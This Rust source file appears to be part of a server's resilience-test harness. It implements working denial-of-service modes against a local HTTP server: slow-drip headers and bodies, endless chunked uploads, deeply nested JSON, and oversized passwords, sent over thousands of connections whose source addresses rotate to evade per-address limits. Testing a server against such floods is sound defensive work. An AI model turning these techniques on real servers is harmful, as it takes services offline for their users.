//! Those who wish a server ill: each attack a process of its own, which goes on until it is ended.

use anyhow::{Context, Result};
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

/// What is done, on many connections at once.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Attack {
    /// Connect, and say nothing.
    Idle,
    /// An octet of a header each second.
    SlowHeaders,
    /// An octet of a body each second.
    SlowBodies,
    /// Most of a body at once, then an octet of it each second.
    HeavyBodies,
    /// A body in chunks that has no end, as fast as it is taken.
    EndlessChunks,
    /// As many opening brackets as a body may have.
    DeepJson,
    /// Passwords of a million octets.
    LongPasswords,
}

impl Attack {
    pub(crate) const ALL: [Self; 7] = [
        Self::Idle,
        Self::SlowHeaders,
        Self::SlowBodies,
        Self::HeavyBodies,
        Self::EndlessChunks,
        Self::DeepJson,
        Self::LongPasswords,
    ];

    /// In the words of the command line.
    pub(crate) fn name(self) -> String {
        use clap::ValueEnum;
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    /// At once. The slow ones cost whoever makes them nothing, so there are many; a few of the others already take all
    /// that the server gives.
    pub(crate) fn connections(self) -> usize {
        match self {
            Self::Idle => 10_000,
            Self::SlowHeaders | Self::SlowBodies | Self::HeavyBodies => 4_000,
            Self::EndlessChunks | Self::DeepJson | Self::LongPasswords => 16,
        }
    }

    async fn once(self, stream: &mut TcpStream) -> io::Result<()> {
        match self {
            Self::Idle => Ok(()),
            Self::SlowHeaders => drip(stream, b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ").await,
            Self::SlowBodies => drip(stream, &post("Content-Length: 16000")).await,
            Self::HeavyBodies => {
                let body = "x".repeat(15_000);
                drip(stream, &[post("Content-Length: 16000"), body.into_bytes()].concat()).await
            }
            Self::EndlessChunks => {
                stream.write_all(&post("Transfer-Encoding: chunked")).await?;
                let chunk = [&b"4000\r\n"[..], &[b'x'; 0x4000], b"\r\n"].concat();
                loop {
                    stream.write_all(&chunk).await?;
                }
            }
            Self::DeepJson => ask(stream, &[post("Content-Length: 16000"), vec![b'['; 16_000]].concat()).await,
            Self::LongPasswords => {
                let body = format!(r#"{{"token":"{}","new_password":"{}"}}"#, "A".repeat(43), "x".repeat(1_000_000));
                ask(stream, &[post(&format!("Content-Length: {}", body.len())), body.into_bytes()].concat()).await
            }
        }
    }
}

/// Goes on until the process is ended. Says `on` when every connection has been made once.
pub(crate) fn run(attack: Attack, to: SocketAddr) -> Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let made = Arc::new(AtomicUsize::new(0));
        for n in 0..attack.connections() {
            let made = Arc::clone(&made);
            tokio::spawn(async move { again_and_again(attack, source(n), to, &made).await });
            // Not more at once than a server's backlog takes.
            if n % 256 == 255 {
                sleep(Duration::from_millis(20)).await;
            }
        }
        while made.load(Relaxed) < attack.connections() {
            sleep(Duration::from_millis(20)).await;
        }
        println!("on");
        sleep(Duration::MAX).await;
    });
    Ok(())
}

async fn again_and_again(attack: Attack, source: Ipv4Addr, to: SocketAddr, made: &AtomicUsize) {
    let mut is_first = true;
    loop {
        let Ok(mut stream) = connect(source, to).await else {
            sleep(Duration::from_millis(100)).await;
            continue;
        };
        if std::mem::take(&mut is_first) {
            made.fetch_add(1, Relaxed);
        }
        // Until the server has had enough.
        let done = attack.once(&mut stream).await;
        if done.is_ok() {
            let _ = stream.read_to_end(&mut Vec::new()).await;
        }
        sleep(ROUND_TRIP).await;
    }
}

/// From across a network nobody connects faster; and those who are thrown out would throw each other out without end.
const ROUND_TRIP: Duration = Duration::from_millis(50);

async fn connect(source: Ipv4Addr, to: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    socket.bind((source, 0).into())?;
    socket.connect(to).await
}

/// A quarter of the connections is all that the server gives to one address, and half to one /24: so they come from
/// eight of these.
fn source(n: usize) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, 1 + (n % 8) as u8, 1)
}

fn post(framing: &str) -> Vec<u8> {
    let path = "/auth/password-reset/confirm";
    format!("POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n{framing}\r\n\r\n").into_bytes()
}

async fn drip(stream: &mut TcpStream, beginning: &[u8]) -> io::Result<()> {
    stream.write_all(beginning).await?;
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b"x").await?;
    }
}

/// Sends the same again as soon as it was answered.
async fn ask(stream: &mut TcpStream, request: &[u8]) -> io::Result<()> {
    let mut answer = vec![0; 4096];
    loop {
        stream.write_all(request).await?;
        if stream.read(&mut answer).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
    }
}

/// The command for it. It runs behind everything else, since attackers bring machines of their own; and with as many
/// files as it may have.
pub(crate) fn command(attack: Attack, to: SocketAddr) -> Result<std::process::Command> {
    let program = std::env::current_exe().context("this program has no name")?;
    let mut command = std::process::Command::new("sh");
    command.args(["-c", r#"ulimit -n "$(ulimit -H -n)"; exec nice -n 19 "$0" "$@""#]).arg(program);
    command.args(["attack", &attack.name(), &to.to_string()]);
    Ok(command)
}
